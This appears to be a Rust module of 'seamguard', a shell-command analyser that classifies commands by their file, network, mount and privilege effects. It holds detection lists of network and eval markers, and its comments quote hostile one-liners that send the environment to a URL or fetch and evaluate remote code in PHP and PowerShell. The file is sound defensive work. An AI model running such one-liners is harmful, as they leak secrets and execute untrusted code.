//! One simple command through the program table: its option values, its shell text and
//! code, then the effects of the row's [`Action`]; languages the table does not parse
//! (`ruby -e`, `php -r`) by their markers.

use super::files::{chattr, copy, files, find, permission};
use super::git::{git_config, scheduled_jobs};
use super::install::install;
use super::out::{Out, delete, read, write};
use super::pipes::code_reads_environment;
use super::privilege::{grants, host_mount};
use super::request::{send_host, send_url};
use super::send::{connect, http_items, send, socat};
use super::signals::{service, signal};
use crate::effects::What;
use crate::effects::programs::{Action, Role, Switch, parse};
use crate::shell::{Arg, SimpleCommand};

/// What code in a language without a parser here writes to open a network connection.
const UNPARSED_NETWORK_MARKERS: &[&str] = &[
    "http://",
    "https://",
    "ftp://",
    "Net::HTTP",
    "Net::FTP",
    "Net::SMTP",
    "URI.open",
    "open-uri",
    "TCPSocket",
    "UDPSocket",
    "Socket.",
    "IO::Socket",
    "LWP",
    "HTTP::Tiny",
    "curl_",
    "fsockopen",
    "stream_socket_client",
    "socket_connect",
    "socket(",
    "Invoke-WebRequest",
    "Invoke-RestMethod",
    "iwr ",
    "iwr(",
    "irm ",
    "irm(",
    "Net.WebClient",
    "DownloadString",
];

/// What code in a language without a parser here writes to run text as code.
const UNPARSED_EVAL_MARKERS: &[&str] = &[
    "eval",
    "instance_eval",
    "class_eval",
    "Invoke-Expression",
    "iex ",
    "iex(",
    "IEX ",
    "IEX(",
    "create_function",
    "assert(",
];

/// Ruby, Perl, PHP and PowerShell code is not parsed here: code that names a network
/// connection and also reads the whole environment (`ruby -e 'Net::HTTP.post(URI("https://…"),
/// ENV.to_h.to_s)'`) may send it, and code that names one and evaluates text (`php -r
/// "eval(file_get_contents('https://…'));"`, `pwsh -c 'iex (iwr https://…)'`) may run what it
/// fetches: both are unsure.
fn unparsed_code_effects(c: &SimpleCommand, out: &mut Out) {
    let lang = match c.basename() {
        "ruby" => "Ruby",
        "perl" | "perl5" => "Perl",
        "php" => "PHP",
        "pwsh" | "powershell" | "powershell.exe" | "pwsh.exe" => "PowerShell",
        _ => return,
    };
    let has = |markers: &[&str]| {
        c.args
            .iter()
            .any(|a| markers.iter().any(|m| a.text.contains(m)))
    };
    if !has(UNPARSED_NETWORK_MARKERS) {
        return;
    }
    if code_reads_environment(c) {
        out.push(What::Unsure(format!(
            "{lang} code that reads the whole environment and opens a network connection \
             (seamguard does not parse {lang})"
        )));
    }
    if has(UNPARSED_EVAL_MARKERS) {
        out.push(What::Unsure(format!(
            "{lang} code that opens a network connection and evaluates text as code \
             (seamguard does not parse {lang})"
        )));
    }
}

/// The effects a program's row gives one command.
pub(super) fn program_effects(c: &SimpleCommand, out: &mut Out) {
    if c.dynamic_program || c.program.is_empty() {
        return;
    }
    match c.basename() {
        "git" => git_config(c, out),
        "crontab" | "at" | "batch" => scheduled_jobs(c, out),
        "ruby" | "perl" | "perl5" | "php" | "pwsh" | "powershell" | "powershell.exe"
        | "pwsh.exe" => unparsed_code_effects(c, out),
        _ => {}
    }
    if let Some(inner) = python_module(c) {
        program_effects(&inner, out);
        return;
    }
    let Some(p) = parse(c) else {
        return;
    };
    let recursive = p.has(Switch::Recursive);
    grants(c, &p, out);
    // Option values with a path or script role.
    for (role, v) in &p.values {
        match role {
            Role::Read => read(v, c, out),
            Role::Write => write(v, false, c, out),
            Role::Append => write(v, true, c, out),
            Role::Delete => delete(v, recursive, c, out),
            Role::Mount => mount(v, c, out),
            Role::Host if v.text.contains("://") => out.push(send_url(v, None, Vec::new())),
            Role::Host => out.push(send_host(v, None, Vec::new())),
            _ => {}
        }
    }
    for (option, text) in &p.scripts {
        out.scripts
            .push((format!("{} {option}", c.basename()), text.clone()));
    }
    out.codes.extend(crate::effects::inline::code_runs(c, &p));
    match p.row.action {
        Action::Files => files(c, &p, out),
        Action::Copy { moves } => copy(c, &p, moves, out),
        Action::Send => send(c, &p, out),
        Action::Connect => connect(c, &p, out),
        Action::HttpItems => http_items(c, &p, out),
        Action::Socat => socat(c, &p, out),
        Action::Signal => signal(c, &p, out),
        Action::Service => service(&p, out),
        Action::Permission => permission(c, &p, out),
        Action::Chattr => chattr(c, out),
        Action::Install => install(c, &p, out),
        Action::Find => find(c, &p, out),
        // Their grants are read above; what they run is analysed on its own.
        Action::Escalate { .. }
        | Action::EnterNamespaces
        | Action::Unshare
        | Action::SetCapability
        | Action::Pod => {}
        Action::Resolve => {
            // Record types (`TXT`, `ANY`) and ports are not names.
            for a in p.operands_of(Role::Host) {
                let h = a.text.trim_start_matches('@');
                if a.dynamic || h.contains(['.', ':']) {
                    out.push(send_host(
                        &Arg {
                            text: h.to_string(),
                            dynamic: a.dynamic,
                        },
                        None,
                        Vec::new(),
                    ));
                }
            }
        }
    }
}

/// `-v HOST:CONTAINER[:ro]`: a host path (not a named volume) is read, written unless
/// mounted read-only, and granted to the container.
fn mount(v: &Arg, c: &SimpleCommand, out: &mut Out) {
    // `-v /data` alone is an anonymous volume at a container path, not a host path; `-v=…`
    // is `-v …`.
    let text = v.text.strip_prefix('=').unwrap_or(&v.text);
    if !text.contains(':') {
        return;
    }
    let mut parts = text.split(':');
    let host = parts.next().unwrap_or_default();
    let read_only = parts
        .nth(1)
        .is_some_and(|o| o.split(',').any(|x| x == "ro"));
    if !host.starts_with(['/', '~', '.', '$']) {
        return;
    }
    let a = Arg {
        text: host.to_string(),
        dynamic: v.dynamic,
    };
    read(&a, c, out);
    if !read_only {
        write(&a, false, c, out);
    }
    host_mount(&a, c, out);
}

/// `python -m pip install x`: a module the table knows, run as that program.
fn python_module(c: &SimpleCommand) -> Option<SimpleCommand> {
    if !c.basename().starts_with("python") {
        return None;
    }
    let k = c.args.iter().position(|a| a.text == "-m")?;
    let module = c.args.get(k + 1)?;
    if module.dynamic || !matches!(module.text.as_str(), "pip" | "pip3" | "pipx" | "uv") {
        return None;
    }
    Some(SimpleCommand {
        program: module.text.clone(),
        args: c.args.get(k + 2..).unwrap_or_default().to_vec(),
        ..c.clone()
    })
}
